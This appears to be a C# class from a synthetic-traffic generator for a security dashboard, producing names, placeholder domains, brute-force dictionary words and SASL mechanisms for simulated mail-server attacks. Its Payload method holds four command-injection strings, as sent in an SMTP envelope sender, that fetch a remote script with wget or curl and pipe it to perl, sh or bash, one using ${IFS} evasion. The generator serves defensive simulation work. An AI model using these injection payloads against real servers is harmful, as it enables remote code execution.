namespace AttackDash.Generation;

/// <summary>Names, domains and payloads. Pools are kept apart so that no campaign forms by accident.</summary>
internal sealed class Vocabulary(Random rng)
{
    public string OurDomain => "example.com";

    private static readonly string[] Names =
    [
        "james", "mary", "robert", "patricia", "john", "jennifer", "michael", "linda", "david", "elizabeth", "william", "barbara",
        "richard", "susan", "joseph", "jessica", "thomas", "sarah", "charles", "karen", "chris", "lisa", "daniel", "nancy",
        "matthew", "betty", "anthony", "sandra", "mark", "margaret", "donald", "ashley", "steven", "kim", "paul", "emily",
        "andrew", "donna", "joshua", "michelle", "kenneth", "carol", "kevin", "amanda", "brian", "melissa", "george", "deborah",
    ];

    // Only campaigns use these: the classic dictionary words that a botnet rotates across many IPs.
    private static readonly string[] CampaignWords =
    [
        "admin", "info", "test", "office", "sales", "support", "webmaster", "postmaster", "contact", "user", "mail", "backup",
        "scanner", "marketing", "billing", "hr", "noreply", "root", "guest", "oracle",
    ];

    private static readonly string[] Foreign = ["gmail.example", "yahoo.example", "hotmail.example", "mail.example.ru", "qq.example"];
    private static readonly string[] Mechanisms = ["LOGIN", "PLAIN", "login", "CRAM-MD5", "DIGEST-MD5"];

    /// <summary>Giants each walk their own slice of bare names; everyone else tries name+digits from a pool of ~48,000.</summary>
    public string UserFor(Attacker a) => a.Tier == Tier.Giant
        ? Names[(a.Index % 3 * 16) + rng.Next(16)]
        : $"{Names[rng.Next(Names.Length)]}{rng.Next(1, 1000)}";

    public static string CampaignUser(int campaign) =>
        campaign < CampaignWords.Length ? CampaignWords[campaign] : $"{CampaignWords[campaign % CampaignWords.Length]}{campaign / CampaignWords.Length}";

    public string Mechanism() => Mechanisms[rng.Next(Mechanisms.Length)];

    public string LocalPart() => rng.NextDouble() < 0.5 ? Names[rng.Next(Names.Length)] : $"{Names[rng.Next(Names.Length)]}.{Names[rng.Next(Names.Length)]}";

    public string ForeignDomain() => Foreign[rng.Next(Foreign.Length)];

    public string BogusDomain() => $"{Names[rng.Next(Names.Length)]}{rng.Next(100, 999)}.invalid";

    public string Partner(int i) => $"partner{i}.example.net";

    /// <summary>Shell payloads as botnets send them in the envelope sender.</summary>
    public string Payload(string ip) => rng.Next(4) switch
    {
        0 => $"`wget http://{ip}/bot.pl -O /tmp/.b;perl /tmp/.b`",
        1 => $"${{IFS}}wget${{IFS}}http://{ip}/x|sh",
        2 => $"$(curl -s http://{ip}/i.sh|bash)",
        _ => $"`cd /tmp;wget http://{ip}/a.pl|perl`",
    };
}
